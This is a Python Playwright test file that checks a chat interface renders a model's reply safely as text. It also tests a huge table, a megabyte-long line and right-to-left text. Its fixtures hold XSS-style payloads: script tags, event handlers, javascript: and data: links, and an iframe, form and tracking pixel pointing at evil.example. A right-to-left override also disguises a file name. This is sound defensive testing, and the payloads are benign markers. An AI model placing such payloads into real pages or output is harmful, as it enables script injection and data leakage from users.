"""Texts of a model that want to be more than text: nothing runs or is fetched, and the page stays usable."""

from collections.abc import AsyncIterator

import pytest
import pytest_asyncio
from playwright.async_api import Browser, expect

from tests.support.browser import Tabs, open_tabs
from tests.support.client_stage import VERSION
from tests.support.fakes.script import Say, Turn
from tests.support.page_stage import PageStage, ask, conversation, fits_the_window, serve_page_stage

pytestmark = pytest.mark.asyncio(loop_scope="session")

MARKUP = """Before.

<script>window.ran = "script"</script>
<img src=x onerror="window.ran = 'image'">
<svg onload="window.ran = 'svg'"></svg>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/form"><input name="password"></form>
<style>body { display: none }</style>
<a href="javascript:window.ran='link'">press me</a>
<div style="position:fixed;inset:0" id="app" class="app">over everything</div>

![remote](https://evil.example/pixel.png?secret=1)
![data](data:image/svg+xml,<svg onload=alert(1)>)
[markdown link](javascript:window.ran='markdown')
[quoted](https://good.example/"onmouseover="window.ran='quote')
[data link](data:text/html,<script>window.ran=1</script>)

```html
<script>window.ran = "code"</script>
```

After."""
RIGHT_TO_LEFT = "שלום עולם \u202egnp.exe\u202c و مرحبا — `kubectl get pods` — end."
LONG_LINE = "x" * 1_000_000


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def stage() -> AsyncIterator[PageStage]:
    async with serve_page_stage() as stage:
        yield stage


@pytest_asyncio.fixture(loop_scope="session")
async def tabs(browser: Browser, stage: PageStage) -> AsyncIterator[Tabs]:
    async with open_tabs(browser, stage.url) as tabs:
        yield tabs


async def test_markup_is_shown_as_text_and_nothing_is_fetched(tabs: Tabs, stage: PageStage) -> None:
    stage.add("Be evil.", Turn(Say(MARKUP)))
    page = await tabs.open()
    await ask(page, "Be evil.")
    turn = conversation(page)
    await expect(turn).to_contain_text("After.")
    await expect(page.get_by_role("button", name="Stop")).to_have_count(0)
    for round in range(2):  # as it was streamed, and as it is read again
        await expect(turn).to_contain_text('window.ran = "script"')
        for selector in ("script", "iframe", "style", "img", "form input[name=password]", "#app #app"):
            await expect(turn.locator(selector)).to_have_count(0)
        links = await turn.locator("a[href]").evaluate_all("links => links.map(link => link.href)")
        assert all(link.startswith(("https://", "http://127.0.0.1", "mailto:")) for link in links), links
        for link in await turn.locator("a[href^='https:']").all():
            assert "noopener" in (await link.get_attribute("rel") or "")
        assert await page.evaluate("window.ran") is None
        if round == 0:
            await page.reload()


@pytest.mark.full
async def test_a_table_of_thousands_of_cells_scrolls_in_its_own_place(tabs: Tabs, stage: PageStage) -> None:
    columns = range(30)
    head = "|" + "|".join(f" column {number} " for number in columns) + "|"
    rows = ["|" + "|".join(f" {row}-{number} " for number in columns) + "|" for row in range(400)]
    table = "\n".join([head, "|" + "---|" * len(columns), *rows])
    stage.add("Show a table.", Turn(Say(f"{table}\n\nAll rows.", "")))
    page = await tabs.open()
    await ask(page, "Show a table.")
    await expect(conversation(page)).to_contain_text("All rows.")
    await expect(conversation(page).get_by_role("cell", name="0-0", exact=True)).to_be_visible()
    assert await fits_the_window(page)


@pytest.mark.full
async def test_a_megabyte_in_one_line_does_not_break_the_page(tabs: Tabs, stage: PageStage) -> None:
    stage.add("One line.", Turn(Say(LONG_LINE, " the end")))
    page = await tabs.open()
    await ask(page, "One line.")
    await expect(conversation(page)).to_contain_text("the end")
    assert await fits_the_window(page)
    # The next question is answered as if nothing had happened.
    await ask(page, VERSION)
    await expect(conversation(page)).to_contain_text(stage.stage.version.answer)


@pytest.mark.full
async def test_right_to_left_text_stays_where_it_is(tabs: Tabs, stage: PageStage) -> None:
    stage.add("In Hebrew.", Turn(Say(RIGHT_TO_LEFT)))
    page = await tabs.open()
    await ask(page, "In Hebrew.")
    await expect(conversation(page)).to_contain_text("kubectl get pods")
    assert await page.evaluate("getComputedStyle(document.body).direction") == "ltr"
    assert await fits_the_window(page)
